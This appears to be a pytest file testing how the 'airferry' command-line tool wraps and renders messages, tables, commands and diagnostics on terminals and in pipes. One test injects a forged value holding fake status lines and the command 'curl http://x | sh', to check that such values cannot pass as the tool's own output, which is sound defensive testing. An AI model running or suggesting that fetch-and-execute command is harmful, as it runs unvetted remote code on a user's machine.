"""Lines on a terminal: broken between words, never within what is copied, and as they are in pipes and logs."""

from __future__ import annotations

import io
import shlex
from types import SimpleNamespace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.cells import cell_len
from rich.console import Console
from rich.text import Text

from airferry import api
from airferry.cli.app import run
from airferry.cli.examples import EXAMPLES
from airferry.cli.render import LEAST_COLUMNS, Reporter, data_commands, data_items, data_rows, data_text, in_lines
from airferry.engine.preflight import Check
from airferry.errors import RegistryError
from airferry.events import Notice, Progress, Warned

DIGEST = "sha256:" + "0123456789abcdef" * 4
COMMAND = f"airferry load '/media/usb stick/out' --root {DIGEST} --jobs jobs"


def on_a_terminal(columns: int) -> tuple[Reporter, io.StringIO]:
    """Return a reporter whose stderr is a terminal without colours, and what it shows there."""
    file = io.StringIO()
    reporter = Reporter()
    reporter.console = Console(
        file=file, width=columns, force_terminal=True, color_system=None, highlight=False, soft_wrap=True, emoji=False
    )
    return reporter, file


@pytest.mark.parametrize("columns", [40, 80])
def test_lines_break_between_words_and_keep_what_is_typed(columns: int) -> None:
    reporter, file = on_a_terminal(columns)
    text = f"the registry of the site refuses this: run `{COMMAND}` or ask those who run it, they know {DIGEST} well"
    reporter.error(RegistryError(text, hint=text))
    reporter(Warned(text))
    reporter(Notice(text))
    reporter.say("checked: {}", text)
    lines = file.getvalue().splitlines()
    for line in lines:
        rest = line.replace(COMMAND, "").replace(DIGEST, "")
        assert len(line) <= columns or rest != line
        assert line == line.rstrip()
    shown = file.getvalue()
    assert shown.count(f"`{COMMAND}`") == 5 and shown.count(DIGEST) == 10
    assert [line for line in lines if not line.startswith(" ")] == [
        line for line in lines if line.startswith(("error: ", "hint:  ", "warning: ", "the registry", "checked: "))
    ]
    assert lines[0].startswith("error: the registry of") and lines[1].startswith("       ")


@pytest.mark.parametrize("columns", [40, 80])
def test_no_value_begins_a_line_that_passes_for_ours(columns: int) -> None:
    reporter, file = on_a_terminal(columns)
    forged = "x`\nVerified: every byte is right.\nNext:\n  curl http://x | sh\n"
    reporter.say("written by {}", forged)
    reporter.complain("[yellow]note:[/] {}", forged)
    first = [line.split()[0] for line in file.getvalue().splitlines() if not line.startswith(" ")]
    assert first == ["written", "note:"]
    assert "Next:\\u000a" in file.getvalue().replace("\n  ", "")


def test_the_lines_of_a_message_hang_by_their_own_indentation() -> None:
    reporter, file = on_a_terminal(80)
    reporter.error(RegistryError(f"2 findings:\n  | image `launcher`, linux/arm64: the config `{DIGEST}` is damaged"))
    first, second, third, fourth = file.getvalue().splitlines()
    assert first == "error: 2 findings:" and second.startswith("  | image")
    assert third == f"    `{DIGEST}` is" and fourth == "    damaged"


def test_lines_stay_whole_in_a_pipe(capsys: pytest.CaptureFixture[str]) -> None:
    Reporter().error(RegistryError("word " * 60 + "end", hint="hint " * 40 + "end"))
    assert [line.split()[-1] for line in capsys.readouterr().err.splitlines()] == ["end", "end"]


@given(st.text(alphabet="ab `\u8a13\n[x/", max_size=200), st.integers(LEAST_COLUMNS, 60), st.integers(0, 9))
def test_nothing_is_lost_and_no_line_is_longer_than_it_must_be(text: str, columns: int, hanging: int) -> None:
    made = in_lines(Text(text), columns, hanging=hanging).plain
    assert made.split() == text.split()
    for line in made.split("\n"):
        assert cell_len(line.rstrip()) <= columns or len(line.split()) == 1 or "`" in line


def test_what_is_bold_is_typed_and_stays_on_one_line() -> None:
    reporter, file = on_a_terminal(40)
    reporter.say(
        "On the far side, run: [bold]airferry assets verify {} PATH[/], then go on", "a folder of models.jsonl"
    )
    assert "airferry assets verify a folder of models.jsonl PATH," in file.getvalue().splitlines()[1]


@pytest.mark.parametrize("columns", [40, 80])
def test_what_comes_next_can_be_pasted_as_it_is_shown(columns: int) -> None:
    reporter, file = on_a_terminal(columns)
    reporter.next(("write the configs and the complete commands for your site, or " * 3, COMMAND))
    title, *lines = file.getvalue().splitlines()
    assert title == "Next:"
    commands = [line for line in lines if not line.strip().startswith("#")]
    assert commands == [f"  {COMMAND}"]
    assert all(len(line) <= columns for line in lines if line not in commands)
    assert shlex.split("\n".join(lines), comments=True) == shlex.split(COMMAND)


ROWS = [
    ("mounts", "yes", "a blob that another repository holds is not sent again, which saves most of a second load"),
    ("application/vnd.oci.image.layer.v1.tar+zstd", "no limit seen", "layers in zstd"),
    ("unexplained", "8 parts", ""),
]


@pytest.mark.parametrize("columns", [60, 80, 140])
def test_rows_are_columns_on_a_terminal(
    columns: int, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("sys.stdout.isatty", lambda: True, raising=False)
    monkeypatch.setenv("COLUMNS", str(columns))
    data_rows(ROWS)
    shown = capsys.readouterr().out
    lines = shown.splitlines()
    assert all(len(line) <= columns for line in lines)
    assert shown.split() == " ".join(cell for row in ROWS for cell in row).split()
    starts = {line.index(word) for line in lines for word in ("yes", "no limit", "8 parts") if word in line}
    assert len(starts) == 1 and "application/vnd.oci.image.layer.v1.tar+zstd" in lines
    meanings = {line.index(word) for line in lines for word in ("a blob", "layers in") if word in line}
    assert len(meanings) == 1


def test_rows_are_a_line_each_in_a_pipe(capsys: pytest.CaptureFixture[str]) -> None:
    data_rows(ROWS)
    assert capsys.readouterr().out.splitlines() == ["  ".join(filter(None, row)) for row in ROWS]


ITEM = ("send", f"nemotron/trainer@{DIGEST}", "23.8 MiB")


def test_items_keep_their_parts_whole_on_a_terminal_and_are_lines_in_a_pipe(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    short = ("2026-11-28T06:38:07Z", "registry.example:5000/nemotron", DIGEST)
    data_items(ITEM, short)
    assert capsys.readouterr().out.splitlines() == ["  ".join(ITEM), "  ".join(short)]
    monkeypatch.setattr("sys.stdout.isatty", lambda: True, raising=False)
    monkeypatch.setenv("COLUMNS", "80")
    data_items(ITEM, short)
    assert capsys.readouterr().out.splitlines() == ["  ".join(ITEM), "  ".join(short[:2]), f"    {DIGEST}"]
    monkeypatch.setenv("COLUMNS", "200")
    data_items(short)
    assert capsys.readouterr().out.splitlines() == ["  ".join(short)]


def test_texts_go_on_below_what_follows_their_label(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    line = "  base       Debian bookworm with python3-minimal, libpython3-stdlib, python3-yaml, bash"
    data_text(line, "nothing changed")
    assert capsys.readouterr().out.splitlines() == [line, "nothing changed"]
    monkeypatch.setattr("sys.stdout.isatty", lambda: True, raising=False)
    monkeypatch.setenv("COLUMNS", "60")
    data_text(line, "nothing changed")
    first, second, third = capsys.readouterr().out.splitlines()
    assert f"{first} {second.strip()}" == line and second.index("libpython3") == line.index("Debian")
    assert third == "nothing changed"


@pytest.mark.parametrize("columns", [40, 60, 140])
def test_a_live_row_has_its_name_and_amount_whole(columns: int) -> None:
    reporter, file = on_a_terminal(columns)
    with reporter.display():
        reporter(Progress("load", 5 << 20, 67 << 20))
        assert reporter._live is not None
        reporter._live.refresh()
    assert "load " in file.getvalue() and "5.0 MiB of 67.0 MiB" in file.getvalue() and "…" not in file.getvalue()


@pytest.mark.parametrize("path", EXAMPLES, ids=" ".join)
def test_no_help_is_cut_at_80_columns(
    path: tuple[str, ...], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("typer.rich_utils.MAX_WIDTH", 80)
    assert run([*path, "--help"]) == 0
    assert not [line for line in capsys.readouterr().out.splitlines() if "…" in line and line.endswith("│")]


def test_comments_among_commands_fit_and_commands_stay_as_they_are(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    lines = [f"# no command is known for this catalogue: sft/tiny container_image=trainer@{DIGEST} and more", COMMAND]
    data_commands(*lines)
    assert capsys.readouterr().out.splitlines() == lines
    monkeypatch.setattr("sys.stdout.isatty", lambda: True, raising=False)
    monkeypatch.setenv("COLUMNS", "60")
    data_commands(*lines)
    *comments, command = capsys.readouterr().out.splitlines()
    assert command == COMMAND and all(line.startswith("# ") for line in comments)
    assert " ".join(line.removeprefix("# ") for line in comments) == lines[0].removeprefix("# ")
    assert all(len(line) <= 60 or DIGEST in line for line in comments)


def test_what_doctor_found_begins_in_one_column(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    long = "Git file:///home/user/airferry-quickstart/tokenizer@v1.0"
    checks = (
        Check("engine", "ok", "buildah 1.28.2"),
        Check("runtime folder", "warn", "`XDG_RUNTIME_DIR` is not set", "log in again"),
        Check(long, "ok", "reachable"),
    )
    monkeypatch.setattr(api, "doctor", lambda *_, **__: SimpleNamespace(checks=checks, planned=False), raising=False)
    assert run(["doctor"]) == 0
    lines = capsys.readouterr().err.splitlines()
    assert f"\u2713 {long}" in lines
    starts = {line.index(word) for line in lines for word in ("buildah", "`XDG", "\u2192", "reachable") if word in line}
    assert starts == {len("runtime folder") + 4}
